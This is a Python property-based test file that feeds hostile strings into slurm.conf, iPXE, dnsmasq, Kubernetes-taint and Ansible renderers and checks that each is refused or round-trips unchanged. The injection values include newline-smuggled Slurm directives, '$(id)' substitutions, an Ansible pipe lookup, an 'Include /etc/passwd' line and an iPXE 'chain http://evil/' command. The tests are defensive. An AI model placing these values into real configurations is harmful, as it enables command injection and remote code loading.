"""Hostile strings into every renderer (issue 14): refused cleanly, or the output parses back to the same values.

Each renderer writes a configuration language (slurm.conf, hostlists, iPXE,
dnsmasq, Kubernetes labels and taints, an Ansible play). A value with a
newline, a comment sign, a word break or that language's own escapes must
never change what the file says: hypothesis feeds such values in, and each
case either raises the renderer's own error or reads back, with an
independent reader, exactly what went in and nothing more.
"""

from __future__ import annotations

import json
from dataclasses import replace
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lifecycle.drivers.boot.render import BootImage, dnsmasq_conf, ipxe_script, parse_ipxe_args
from lifecycle.drivers.boot.render import RenderError as BootRenderError
from lifecycle.drivers.kube import names
from lifecycle.drivers.kube.types import Taint
from lifecycle.drivers.slurm.hostlist import compress, expand
from lifecycle.drivers.slurm.render import RenderError, RenderOptions, render
from lifecycle.model import vocab
from lifecycle.model.inventory import Inventory, load_inventory
from tests.cli.test_foundation_cli import EXAMPLE

PIECES = ["\n", "\r", "\r\n", "#", "=", " ", "\t", "$(id)", "${net0/mac}", "`id`", "[", "]", ",", "%n", "..", "/",
          ";", "\x00", "\x1b", "{{ lookup('pipe','id') }}", "{%", "\u2028", "\x85", ":", "@", "\\", "'", '"', "*",
          "PrologSlurmctld=/tmp/x.sh", "Include /etc/passwd", "dhcp-script=/tmp/x", "chain http://evil/", "é", "-"]
SAFE = st.text(alphabet="abcxyz0189-._/", min_size=1, max_size=6)
HOSTILE = st.lists(st.one_of(st.sampled_from(PIECES), SAFE), min_size=1, max_size=6).map("".join)
SETTINGS = settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])


@pytest.fixture(scope="module")
def inv() -> Inventory:
    return load_inventory(EXAMPLE)


def words(text: str) -> list[dict[str, str]]:
    """An independent slurm.conf reader: each directive line is space-separated Key=Value words."""
    out = []
    for line in text.split("\n"):
        if not line or line.startswith("#"):
            continue
        pairs = [w.split("=", 1) for w in line.split(" ")]
        assert all(len(p) == 2 and p[0].isalnum() for p in pairs), line
        out.append(dict(pairs))  # type: ignore[arg-type]
    return out


def first(conf: list[dict[str, str]], key: str) -> str:
    return next(d[key] for d in conf if key in d)


# RenderOptions field -> the slurm.conf key it becomes and the value read back.
SLURM_FIELDS: dict[str, tuple[str, Any]] = {
    "cluster_name": ("ClusterName", lambda v: v),
    "controller": ("SlurmctldHost", lambda v: v),
    "state_dir": ("StateSaveLocation", lambda v: v),
    "log_dir": ("SlurmctldLogFile", lambda v: f"{v}/slurmctld.log"),
    "run_dir": ("SlurmctldPidFile", lambda v: f"{v}/slurmctld.pid"),
    "spool_dir": ("SlurmdSpoolDir", lambda v: v),
    "slurm_user": ("SlurmUser", lambda v: v),
    "select_parameters": ("SelectTypeParameters", lambda v: v),
    "proctrack": ("ProctrackType", lambda v: v),
    "task_plugin": ("TaskPlugin", lambda v: v),
    "jobacct_gather": ("JobAcctGatherType", lambda v: v),
    "resume_program": ("ResumeProgram", lambda v: v),
    "suspend_program": ("SuspendProgram", lambda v: v),
    "jwt_key": ("AuthAltParameters", lambda v: f"jwt_key={v}"),
    "auth_socket": ("AuthInfo", lambda v: f"socket={v}"),
}


@SETTINGS
@given(field=st.sampled_from(sorted(SLURM_FIELDS)), value=HOSTILE)
def test_slurm_conf_refuses_or_reads_back(inv: Inventory, field: str, value: str) -> None:
    baseline = words(render(inv, RenderOptions(jwt_key="/k", auth_socket="/s")).files["slurm.conf"])
    opts = replace(RenderOptions(jwt_key="/k", auth_socket="/s"), **{field: value})
    try:
        files = render(inv, opts).files
    except RenderError:
        return
    conf = words(files["slurm.conf"])
    assert len(conf) == len(baseline)  # no directive added or lost
    key, expected = SLURM_FIELDS[field]
    assert first(conf, key) == expected(value)
    assert [list(d) for d in conf] == [list(d) for d in baseline]  # the same keys, in the same order


@SETTINGS
@given(lines=st.lists(HOSTILE, min_size=1, max_size=3))
def test_slurm_extra_lines_refuse_or_stay_one_directive_each(inv: Inventory, lines: list[str]) -> None:
    try:
        conf = render(inv, RenderOptions(extra=tuple(lines))).files["slurm.conf"]
    except RenderError:
        return
    for line in lines:
        assert line in conf.split("\n")
    words(conf)


@SETTINGS
@given(names_=st.lists(st.one_of(HOSTILE, st.from_regex(r"[a-z]{1,3}[0-9]{1,3}", fullmatch=True)), min_size=1,
                       max_size=8))
def test_hostlist_refuses_or_expands_back(names_: list[str]) -> None:
    try:
        text = compress(names_)
    except ValueError:
        return
    back = expand(text)
    assert sorted(back) == sorted(set(names_)) and len(back) == len(set(names_))


IMAGE = BootImage("minimal", "1", "http://10.0.0.1/k", "http://10.0.0.1/i", "http://10.0.0.1/r", "a" * 64)
IPXE_FIELDS = ["name", "version", "kernel_url", "initrd_url", "rootfs_url", "kernel_arg", "phone_home", "token"]


@SETTINGS
@given(field=st.sampled_from(IPXE_FIELDS), value=HOSTILE)
def test_ipxe_refuses_or_reads_back(inv: Inventory, field: str, value: str) -> None:
    image, phone, token = IMAGE, "http://10.0.0.1/phone", "tok"
    if field == "kernel_arg":
        image = replace(IMAGE, kernel_args=("quiet", value))
    elif field == "phone_home":
        phone = value
    elif field == "token":
        token = value
    else:
        image = replace(IMAGE, **{field: value})
    try:
        script = ipxe_script(inv.nodes[0], image, phone, token)
    except BootRenderError:
        return
    lines = script.split("\n")
    assert lines[0] == "#!ipxe" and lines[2].startswith("kernel ") and lines[3].startswith("initrd ")
    assert lines[4:] == ["boot", ""]
    args = parse_ipxe_args(script)
    assert (args["image"], args["image_version"], args["phone_home"], args["token"], args["root"]) == (
        image.name, image.version, phone, token, image.rootfs_url)
    assert lines[2].split()[1] == image.kernel_url and lines[3].split()[-1] == image.initrd_url
    assert value in lines[2].split() or value in lines[3].split() or field != "kernel_arg"


DNSMASQ_FIELDS = ["interface", "boot_base_url", "tftp_root", "reservations_only"]


@SETTINGS
@given(field=st.sampled_from(DNSMASQ_FIELDS), value=HOSTILE)
def test_dnsmasq_refuses_or_reads_back(inv: Inventory, field: str, value: str) -> None:
    kwargs: dict[str, Any] = {"interface": "br0", "boot_base_url": "http://10.0.0.1:8080",
                              "reservations_only": "10.20.0.0/16", "tftp_root": "/srv/tftp"}
    baseline = dnsmasq_conf(inv, **kwargs).split("\n")
    kwargs[field] = value
    try:
        text = dnsmasq_conf(inv, **kwargs)
    except (BootRenderError, ValueError):
        return
    lines = text.split("\n")
    assert len(lines) == len(baseline)
    assert [ln.split("=", 1)[0] for ln in lines] == [ln.split("=", 1)[0] for ln in baseline]
    conf = {ln.split("=", 1)[0]: ln.split("=", 1)[1] for ln in lines if "=" in ln and not ln.startswith("#")}
    if field == "interface":
        assert conf["interface"] == value
    elif field == "tftp_root":
        assert conf["tftp-root"] == value
    elif field == "boot_base_url":
        assert f"dhcp-boot=tag:ipxe,{value.rstrip('/')}/boot.ipxe" in lines


@SETTINGS
@given(key=st.one_of(HOSTILE, st.from_regex(r"([a-z]{1,5}\.io/)?[a-z]{1,8}", fullmatch=True)),
       value=st.one_of(HOSTILE, st.from_regex(r"[a-z0-9]{0,8}", fullmatch=True)),
       effect=st.sampled_from(["NoSchedule", "NoExecute", "Bad", ""]))
def test_kubernetes_labels_and_taints_refuse_or_round_trip(key: str, value: str, effect: str) -> None:
    try:
        vocab.label_key(key)
        vocab.label_value(value)
        accepted = True
    except ValueError:
        accepted = False
    assert accepted == (names.label_errors(key, value) == [])  # one grammar, two callers
    text = f"{key}={value}:{effect}" if value else f"{key}:{effect}"
    try:
        spec = vocab.taint(text)
    except ValueError:
        return
    assert accepted and (spec.key, spec.value, spec.effect) == (key, value, effect)
    parsed = Taint.parse(str(spec))
    assert (parsed.key, parsed.value, parsed.effect) == (key, value, effect)


@SETTINGS
@given(value=st.one_of(HOSTILE, st.lists(HOSTILE, max_size=3), st.dictionaries(st.from_regex(r"[a-z]{1,4}", fullmatch=True),
                                                                             HOSTILE, max_size=2)))
def test_ansible_vars_are_literal_data(tmp_path_factory: pytest.TempPathFactory, value: Any) -> None:
    from ansible.parsing.yaml.loader import AnsibleLoader

    from lifecycle.imaging import roles
    from lifecycle.imaging.definition import Role

    plays = roles.playbook([Role(name="base", vars={"base_value": value})], {})
    work = tmp_path_factory.mktemp("play")
    _, book = roles._files(work, None, plays)
    text = book.read_text()
    loaded = AnsibleLoader(text).get_single_data()
    assert loaded[0]["vars"]["base_value"] == value
    # A string Ansible would template is written !unsafe; nothing else changes.
    assert yaml.load(text, Loader=_UnsafeLoader)[0]["vars"]["base_value"] == _tagged(value)


class _UnsafeLoader(yaml.SafeLoader):
    pass


_UnsafeLoader.add_constructor("!unsafe", lambda loader, node: ("unsafe", loader.construct_scalar(node)))


def _tagged(value: Any) -> Any:
    if isinstance(value, dict):
        return {k: _tagged(v) for k, v in value.items()}
    if isinstance(value, list):
        return [_tagged(v) for v in value]
    return ("unsafe", value) if any(j in value for j in ("{{", "{%", "{#")) else value


# ---------------------------------------------------------------- the probes, one by one


def test_cluster_name_with_a_newline_is_refused(inv: Inventory) -> None:
    with pytest.raises(RenderError, match="cluster_name"):
        render(inv, RenderOptions(cluster_name="a\nPrologSlurmctld=/tmp/x.sh"))


def test_kernel_argument_with_a_trailing_newline_is_refused(inv: Inventory) -> None:
    """'$' in re.match accepted 'quiet\\n': the next argument then ran as an iPXE command."""
    with pytest.raises(BootRenderError, match="kernel_args"):
        ipxe_script(inv.nodes[0], replace(IMAGE, kernel_args=("quiet\n", "chain", "http://evil/")), "http://h/p", "t")


def test_url_with_a_trailing_newline_is_refused(inv: Inventory) -> None:
    with pytest.raises(BootRenderError, match="boot_base_url"):
        dnsmasq_conf(inv, interface="br0", boot_base_url="http://10.0.0.1\n", reservations_only="10.20.0.0/16")


def test_slurm_render_command_refuses_the_issue_probe(tmp_path: Any) -> None:
    from tests.cli.test_foundation_cli import racklife

    out = tmp_path / "out"
    res = racklife(tmp_path, "slurm", "render", "--inventory", str(EXAMPLE), "--out", str(out),
                   "--cluster-name", "a\nPrologSlurmctld=/tmp/x.sh")
    assert res.returncode == 2 and "cluster_name" in res.stderr and "Traceback" not in res.stderr
    assert not out.exists()  # nothing written
    res = racklife(tmp_path, "slurm", "render", "--inventory", str(EXAMPLE), "--out", str(out), "--json",
                   "--controller", "ctl #x")
    assert res.returncode == 2 and json.loads(res.stdout)["error"]["message"].startswith("slurm render: controller:")


def test_a_huge_hostlist_range_is_refused_not_expanded() -> None:
    import time

    start = time.monotonic()
    for expr in ("n[0-999999999]", "n[0-999]x[0-999]", ",".join(["m[0-9999]"] * 11)):
        with pytest.raises(ValueError, match="more than 100,000"):
            expand(expr)
    assert time.monotonic() - start < 2.0
